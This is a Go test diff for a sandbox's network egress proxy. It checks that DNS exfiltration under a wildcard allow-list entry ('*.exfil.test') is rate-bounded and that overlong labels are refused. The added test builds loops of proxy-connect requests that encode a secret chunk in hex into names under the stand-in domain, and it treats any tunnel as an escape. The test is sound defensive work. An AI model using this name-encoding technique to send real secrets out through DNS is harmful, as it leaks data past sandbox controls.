@@ -13,6 +13,7 @@ import (
 
 	"github.com/agentbox/agentbox/internal/testenv"
 	"github.com/agentbox/agentbox/sandbox"
+	"github.com/agentbox/agentbox/sandbox/egress"
 )
 
 // hostListener accepts TCP connections on addr in the test process,
@@ -270,5 +271,58 @@ func TestReadingInjectedCredentialsFails(t *testing.T) {
 	}
 	if st := s.State(); strings.Contains(fmt.Sprint(st), cred) {
 		t.Errorf("the session's state carries the credential")
+	}
+}
+
+// A wildcard entry lets the sandbox pick names the proxy resolves through
+// the host's resolver: the attack encodes a secret in the names of a fast
+// loop (DNS exfiltration), with one long label for a wide channel. Only a
+// burst of short names may reach the resolver; the rest are refused and
+// each refusal is a violation.
+func TestExfiltratingThroughNamesUnderAWildcardIsBounded(t *testing.T) {
+	c := newClient(t)
+	spec := sandbox.Spec{Policy: sandbox.Policy{Network: sandbox.NetworkPolicy{
+		Mode: sandbox.NetworkAllowList, Allow: []string{"*.exfil.test"},
+	}}}
+	if !enforces(c, sandbox.PartNetworkAllowList) {
+		assertRefused(t, spec, sandbox.PartNetworkAllowList)
+		return
+	}
+	s := newSession(t, spec)
+	const tries = 40
+	args := []string{helper, "batch"}
+	for i := range tries {
+		args = append(args, fmt.Sprintf("proxy-connect c%02d-%x.exfil.test:443", i, "secret-chunk"))
+	}
+	start := time.Now()
+	res := execIn(t, s, sandbox.ExecRequest{Cmd: args})
+	elapsed := time.Since(start)
+	out := string(res.Stdout)
+	if strings.Contains(out, "status: 200") {
+		t.Fatalf("ESCAPE: the proxy opened a tunnel to a name the sandbox picked:\n%s", out)
+	}
+	refused := strings.Count(out, "status: 403") + strings.Count(out, "status: 429")
+	answered := strings.Count(out, "status: ")
+	if answered != tries {
+		t.Fatalf("%d of %d requests were answered:\n%s", answered, tries, out)
+	}
+	// The others reached the resolver (502: the name does not resolve).
+	// The loop takes a fraction of a second: the burst, plus a name per
+	// second it ran.
+	resolved := tries - refused
+	if max := egress.DefaultBurst + int(elapsed/egress.DefaultEvery) + 1; resolved > max {
+		t.Errorf("ESCAPE: %d of %d names picked by the sandbox reached the resolver in %s, want at most %d", resolved, tries, elapsed, max)
+	}
+	if v := strings.Join(res.Violations, "\n"); refused == 0 || strings.Count(v, "message through DNS") != refused {
+		t.Errorf("%d refusals, violations %q: want one naming the bound for each", refused, res.Violations)
+	}
+
+	long := strings.Repeat("6b6579", 10) + ".exfil.test"
+	res = execIn(t, s, sandbox.ExecRequest{Cmd: []string{helper, "proxy-connect", long + ":443"}})
+	if got, out := parseResult(t, []string{long}, res); got == "ok" || !strings.Contains(out, "status: 403") {
+		t.Errorf("a name with a 60-byte label: %s, want a 403 refusal", out)
+	}
+	if v := strings.Join(res.Violations, "\n"); !strings.Contains(v, "a label of 60 bytes") {
+		t.Errorf("violations %q do not name the label bound", res.Violations)
 	}
 }
